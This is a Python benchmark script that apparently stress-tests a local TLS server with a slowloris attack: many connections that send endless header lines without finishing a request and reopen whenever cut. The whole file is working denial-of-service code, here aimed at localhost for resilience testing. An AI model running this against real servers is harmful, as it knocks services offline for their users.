"""The slow-client attack of ``bench_slow_clients``: request heads that never end.

Run as ``python -m benchmarks._slowloris PLAN.json`` (port, ca, connections,
seconds, drip); prints one JSON object. The attack needs no certificate, so
it is one asyncio process on uvloop; the honest devices it is measured
against come from the C load generator (``benchmarks/storm_client.c``).
"""

from __future__ import annotations

import asyncio
import json
import random
import resource
import ssl
import sys
import time
from collections import Counter
from pathlib import Path
from typing import Any


async def slowloris(
    port: int, ca: str, count: int, seconds: float, drip: float, ramp: float = 10.0
) -> dict[str, Any]:
    """``count`` connections that never finish a request head (a header line every
    ``drip`` seconds), opened over ``ramp`` seconds, each reopened as soon as the server
    cuts it, for ``seconds``."""
    context = ssl.create_default_context(cafile=ca)  # no certificate: anyone may
    started = time.perf_counter()
    cut = Counter[str]()

    async def hold() -> None:
        # Opened over the first seconds, as attack tools do; then steady.
        await asyncio.sleep(random.uniform(0, ramp))
        while time.perf_counter() - started < seconds:
            try:
                reader, writer = await asyncio.open_connection(
                    "127.0.0.1", port, ssl=context, server_hostname="localhost"
                )
            except (OSError, ssl.SSLError):
                cut["refused"] += 1
                await asyncio.sleep(1.0)
                continue
            try:
                writer.write(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n")
                n = 0
                while time.perf_counter() - started < seconds:
                    try:
                        await asyncio.wait_for(reader.read(4096), drip)
                    except TimeoutError:
                        writer.write(f"X-Slow-{n}: 1\r\n".encode())
                        n += 1
                        continue
                    cut["cut"] += 1  # answered (408) or closed: open another
                    break
            except (OSError, ssl.SSLError):
                cut["cut"] += 1
            finally:
                writer.close()

    await asyncio.gather(*(hold() for _ in range(count)))
    return {"connections": count, "outcomes": dict(cut)}


def main() -> None:
    plan = json.loads(Path(sys.argv[1]).read_text())
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    work = slowloris(
        int(plan["port"]),
        plan["ca"],
        int(plan["connections"]),
        float(plan["seconds"]),
        float(plan["drip"]),
        float(plan.get("ramp", 10.0)),
    )
    try:
        import uvloop

        result = uvloop.run(work)
    except ImportError:
        result = asyncio.run(work)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
